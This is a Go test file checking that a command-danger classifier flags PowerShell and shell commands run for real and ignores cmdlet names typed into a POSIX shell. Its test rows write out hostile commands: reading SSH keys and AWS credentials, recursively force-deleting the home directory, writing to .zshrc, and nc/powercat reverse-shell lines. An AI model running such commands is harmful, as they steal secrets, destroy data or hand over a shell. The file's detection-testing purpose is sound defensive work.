package danger

import (
	"testing"
)

// Tests of notdone.go's rules: what each marks, in every form its tool's
// reference gives, and the everyday neighbours it leaves alone.

// TestPrecisionPowerShellNamesInShell: PowerShell's cmdlets are named
// Verb-Noun with an approved verb (Get-Verb; "Approved Verbs for
// PowerShell Commands", Microsoft Learn), and powercat is a PowerShell
// module's function: no POSIX shell finds a program by those names, so
// "Get-Content ~/.aws/credentials" or "powercat -c HOST -p 666 -e cmd.exe"
// typed as a shell line print "command not found" and run nothing (labels
// i1068, r0651, dev8's u0115). The same cmdlets inside pwsh -c or
// powershell -Command are PowerShell's and keep their marks (i0258).
func TestPrecisionPowerShellNamesInShell(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		// Marked: run by PowerShell, or a real program.
		{`pwsh -c '"DATA" | Out-File /home/user/.zshrc'`, PersistenceStartupFiles},
		{`pwsh -c 'Get-Content ~/.ssh/id_rsa'`, SecretRead},
		{`pwsh -c 'Remove-Item -Recurse -Force ~'`, DestructiveDelete},
		{`nc -c 10.0.0.10 -p 666 -e /bin/sh`, NetworkExfiltration},
		{`cat ~/.aws/credentials`, SecretRead},
		// Everyday: not found as shell programs.
		{`powercat -c 10.0.0.10 -p 666 -e cmd.exe`, ""},
		{`Get-Content ~/.aws/credentials`, ""},
		{`Copy-Item ~/.ssh/id_rsa /tmp/`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}
